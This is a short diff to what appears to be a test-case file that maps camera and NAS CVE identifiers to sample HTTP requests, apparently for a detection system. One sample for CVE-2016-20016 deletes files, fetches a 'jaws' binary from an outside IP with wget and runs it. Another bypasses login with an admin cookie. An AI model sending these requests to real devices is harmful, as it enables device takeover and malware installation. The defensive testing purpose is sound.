@@ -19,7 +19,7 @@ export const camerasNas: Cases = {
   ],
   'CVE-2016-20016': [
     'GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws',
-    'GET /shell-scripts?page=2',
+    'GET /shell?page=slow+door&server=cat',
   ],
   'CVE-2018-9995': ['GET /device.rsp?opt=user&cmd=list\nCookie: uid=admin', 'GET /device.rsp?opt=time'],
   'CVE-2024-3721': [
